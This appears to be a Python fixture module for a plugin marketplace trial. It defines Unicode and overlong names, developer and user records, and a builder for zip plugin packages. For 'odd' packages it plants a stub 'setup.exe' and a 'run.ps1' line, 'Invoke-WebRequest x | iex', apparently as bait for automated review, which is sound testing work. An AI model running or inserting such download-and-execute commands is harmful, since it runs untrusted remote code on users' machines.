"""The words, names and packages of the trial's marketplace."""

from __future__ import annotations

import io
import json
import zipfile
from typing import Any, Final

from microdock_server.demo.assemblies import assembly

# 200 characters, which is the most.
UNBROKEN_NAME: Final = ("Unbroken" * 25)[:200]
LONG_NAME: Final = ("A name of many words, more than anybody wants to read " * 4)[:199] + "!"
LONG_CHINESE: Final = "一个非常长的插件名称" * 20
FAMILY: Final = "👨‍👩‍👧‍👦 Family Planner"
FLAGS: Final = "🇨🇳🇩🇪🇯🇵"
ARABIC: Final = "مخطط المهام اليومي (الإصدار 2)"
HEBREW: Final = "לוח שנה עברי v2.0"
NAMES: Final = (
    "World Clock",
    UNBROKEN_NAME,
    FAMILY,
    ARABIC,
    LONG_NAME,
    "番茄钟",
    HEBREW,
    LONG_CHINESE,
    FLAGS,
    "Notes & Tasks <b>1</b>",
)

# By username: display name, company, and whether they were verified (None: nobody decided yet).
DEVELOPERS: Final = {
    "developer": ("Ada Devel", "Example GmbH", True),
    "dina": ("دينا الحسن", "شركة الأدوات", True),
    "noa": ("נועה לוי", "חברת התוספים בע״מ", None),
    "family": ("👨‍👩‍👧‍👦 Family Apps 🇨🇳🇩🇪", "", None),
    "longword": (UNBROKEN_NAME, UNBROKEN_NAME, None),
    "longwords": (LONG_NAME, LONG_NAME, False),
    "chenyu": ("陈宇", "一家名字非常长的有限责任公司" * 8, True),
    "newcomer": ("Newcomer", "", None),
}
USERS: Final = (
    *(f"user{number:02}" for number in range(34)),
    "פלוניאלמונית",
    "مستخدمةجديدة",
    "用户名字很长" * 8,
    "u" * 64,
    "firstname.lastname-of-the-department_for.long-names",
    "leftthehouse",
)

REASON: Final = (
    "It sends what is typed to an address that its description does not name, and nobody was asked. "
    "See https://advisories.example/" + "a-long-path/" * 12
)
NOTES: Final = "Checked by hand. " * 6 + "הערה בעברית עם English באמצע."
APPEAL: Final = "The address belongs to us, and is named in the documents since 1.1.0. " * 4
STORY: Final = (
    "## What it does\n\nIt shows **clocks** of many places, and keeps a list of what is to be done.\n\n"
    "- quick\n- quiet\n- [its home](https://home.example/)\n\n" + "A paragraph of ordinary words follows here. " * 14
)
CHANGELOG: Final = (
    "## New\n\n- **Faster** start, see [the report](https://home.example/report)\n- `Ctrl+K` opens the list\n\n"
    "## Mended\n\n1. clocks behind the date line\n2. names that are longer than their row\n\n> Thanks to everybody.\n"
)
_MOMENT: Final = (2026, 1, 1, 0, 0, 0)


def package_of(name: str, release: str, title: str, *, is_large: bool = False, is_odd: bool = False) -> bytes:
    """A package with an assembly and documents, in which texts and binaries differ between releases.

    A large one has many files, of which some come and go; of an odd one the automatic review finds something.
    """
    word = "".join(part.capitalize() for part in name.rpartition(".")[2].split("-"))
    manifest: dict[str, Any] = {
        "name": name,
        "version": release,
        "main": f"{word}.dll",
        "entryClass": f"{word}.Plugin",
        "displayName": title,
        "description": f"{title[:60]}: for the trial",
        "author": "Trial",
        "license": "MIT",
        "homepage": "https://home.example/",
        "changelog": CHANGELOG,
        "engines": {"MicroDock": ">=2.0.0"},
        "permissions": ["storage:local", "http:external"] if is_large else [],
    }
    uses = ("file_system", "network") if is_large else ("process", "network") if is_odd else ()
    files = {
        "plugin.json": json.dumps(manifest, ensure_ascii=False, indent=2).encode(),
        f"{word}.dll": assembly(word, manifest["entryClass"], release, title, uses),
        "README.md": f"# {name} {release}\n\n{STORY}\n\nWritten for {release}.\n".encode(),
        "CHANGELOG.md": f"# {release}\n\n{CHANGELOG}".encode(),
        "LICENSE": b"MIT\n",
    }
    if is_large:
        files |= _more(word, release)
    if is_odd:
        files |= {"tools/setup.exe": b"MZ" + release.encode() * 400, "tools/run.ps1": b"Invoke-WebRequest x | iex\n"}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, content in files.items():
            archive.writestr(zipfile.ZipInfo(path, _MOMENT), content, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def _more(word: str, release: str) -> dict[str, bytes]:
    settings = {f"option{number}": f"{release if number % 5 == 0 else 'same'}" for number in range(40)}
    helper = assembly(f"{word}.Helper", f"{word}.Helper.Entry", release, "helper", ("network",))
    return {
        "settings.json": json.dumps(settings, indent=2).encode(),
        "web/index.html": f"<!doctype html>\n<title>{word}</title>\n<p>{release}</p>\n".encode()
        + b"<p>same</p>\n" * 60,
        "web/style.css": b"p { margin: 0 }\n" * 30 + release.encode(),
        f"{word}.Helper.dll": helper,
        "data/table.bin": bytes(range(256)) * 20 + release.encode(),
        f"data/only-{release}.txt": release.encode(),
        **{
            f"assets/{number:02}.txt": f"{number} {release if number % 3 == 0 else ''}".encode() for number in range(24)
        },
    }
